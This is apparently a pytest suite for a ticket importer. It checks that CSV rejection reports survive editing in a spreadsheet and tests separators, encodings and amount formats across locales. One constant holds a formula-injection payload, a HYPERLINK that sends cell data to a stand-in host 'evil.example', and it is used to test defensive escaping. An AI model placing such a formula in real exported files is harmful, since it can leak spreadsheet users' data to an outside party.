"""Reports go through a spreadsheet and come back: mended there, and otherwise unchanged."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from kassa.importers.errors import CannotImport
from kassa.importers.foreign_values import rewrite_amount
from tests.importers.old_system import OldSystem

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


class Sheet:
    """A spreadsheet of some country: what it makes of a file, and the file that it saves."""

    def __init__(self, content: bytes, *, separator: str) -> None:
        text = content.decode("utf-8-sig" if content.startswith(b"\xef\xbb\xbf") else "cp1252")
        self.separator = separator
        self.rows = [
            [self.shown(cell) for cell in row] for row in csv.reader(io.StringIO(text), delimiter=separator)
        ]

    def shown(self, cell: str) -> str:
        """Return what is in a cell when the file is saved again."""
        if cell[:1] in ("=", "+", "-", "@"):
            return "#NAME?"
        if re.fullmatch(r"\d{12,}|\d+E\d+", cell):
            return f"{float(cell):.2E}".replace(".", "," if self.separator == ";" else ".")
        if re.fullmatch(r"0\d+", cell):
            return str(int(cell))
        dates = r"\d{1,4}[-/]\d{1,2}([-/]\d{1,4})?" + (
            r"|\d{1,2}\.\d{1,2}(\.\d+)?" if self.separator == ";" else ""
        )
        return "01. Mai" if re.fullmatch(dates, cell) else cell

    def mend(self, wrong: str, right: str) -> None:
        self.rows = [[right if cell == wrong else cell for cell in row] for row in self.rows]

    def save(self) -> bytes:
        file = io.StringIO()
        csv.writer(file, delimiter=self.separator).writerows(self.rows)
        return b"\xef\xbb\xbf" + file.getvalue().encode()


def with_separator(path: Path, separator: str) -> None:
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
    with path.open("w", encoding="utf-8-sig", newline="") as file:
        csv.writer(file, delimiter=separator).writerows(rows)


@pytest.mark.parametrize(
    ("separator", "price"), [(",", "45.00"), (";", "45,00"), ("\t", "45,00"), (";", "1.50")]
)
def test_report_is_mended_in_a_spreadsheet(old: OldSystem, separator: str, price: str) -> None:
    path = old.write(
        old.ticket(
            "00123",
            purchase_reference="3-4",
            first_name="José",
            last_name="Núñez",
            price=price,
            status="Checked In",
        ),
        old.ticket(
            "123456789012345678",
            purchase_reference="=1+1",
            first_name=HOSTILE,
            last_name="-2+3",
            price=price,
            status="Checked In",
        ),
    )
    with_separator(path, separator)
    assert old.import_file("tickets", path) == (0, 0, 2)
    report = old.folder / "old.rejected.csv"

    sheet = Sheet(report.read_bytes(), separator=separator)
    assert not any(cell == "#NAME?" for row in sheet.rows for cell in row)
    sheet.mend("Checked In", "used")
    report.write_bytes(sheet.save())

    assert old.import_file("tickets", report) == (2, 0, 0)
    names = {(one.attendee_first_name, one.attendee_last_name) for one in old.tickets}
    assert names == {("José", "Núñez"), (HOSTILE, "-2+3")}
    keys = {order.idempotency_key for order in old.orders}
    assert keys == {"import:tickets:3-4", "import:tickets:=1+1"}
    assert {order.customer_email for order in old.orders} == {"ada@example.com"}


def test_the_same_file_in_another_country_is_the_same_import(old: OldSystem) -> None:
    path = old.write(old.ticket("T1", price="45.00"))
    assert old.import_file("tickets", path) == (1, 0, 0)

    path.write_text(path.read_text().replace(",", ";").replace("45.00", "45,00"))

    assert old.import_file("tickets", path) == (0, 1, 0)


@pytest.mark.parametrize("first", ["sep=;\n", '"sep=;"\r\n', "\ufeffsep=;\n"])
def test_separator_may_be_declared_and_lines_are_still_counted(old: OldSystem, first: str) -> None:
    path = old.write(old.ticket("T1"), old.ticket("T2", purchase_reference="P2", price="free"))
    path.write_text(first + path.read_text().replace(",", ";"), encoding="utf-8")

    assert old.import_file("tickets", path) == (1, 0, 1)

    assert (old.folder / "old.rejected.csv").read_text("utf-8-sig").splitlines()[1].startswith("4;")


def test_unicode_text_of_excel_is_read(old: OldSystem) -> None:
    path = old.write(old.ticket("T1", first_name="Łukasz", price="45,00"))
    with_separator(path, "\t")
    path.write_bytes(path.read_text("utf-8-sig").encode("utf-16"))

    assert old.import_file("tickets", path) == (1, 0, 0)
    assert old.tickets[0].attendee_first_name == "Łukasz"


def test_file_in_one_column_says_so(old: OldSystem) -> None:
    path = old.folder / "old.csv"
    path.write_text("ticket_reference|price\nT1|45.00\n")

    with pytest.raises(CannotImport, match="All of it stands in one column"):
        old.import_file("tickets", path)


@pytest.mark.parametrize(
    ("written", "commas", "read"),
    [
        ("45,00", True, "45.00"),
        ("45,00", False, "45,00"),
        ("1.234,50", True, "1234.50"),
        ("1.234,50", False, "1234.50"),
        ("1,234.50", False, "1234.50"),
        ("1\u202f234,50", True, "1234.50"),
        ("1'234.50", True, "1234.50"),
        ("1.234.567", True, "1.234.567"),
        ("1,234", False, "1,234"),
        ("12.345.67,8", True, "12.345.67,8"),
        ("45.00", True, "45.00"),
        ("", True, ""),
    ],
)
def test_amounts_of_all_countries(written: str, commas: bool, read: str) -> None:
    assert rewrite_amount(written, has_decimal_commas=commas) == read


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(amount=st.decimals(0, 9_999_999, places=2))
def test_every_amount_is_read_as_each_country_writes_it(amount: object) -> None:
    english = f"{amount:,.2f}"
    german = english.translate(str.maketrans(",.", ".,"))

    assert rewrite_amount(english, has_decimal_commas=False) == f"{amount:.2f}"
    assert rewrite_amount(german, has_decimal_commas=True) == f"{amount:.2f}"
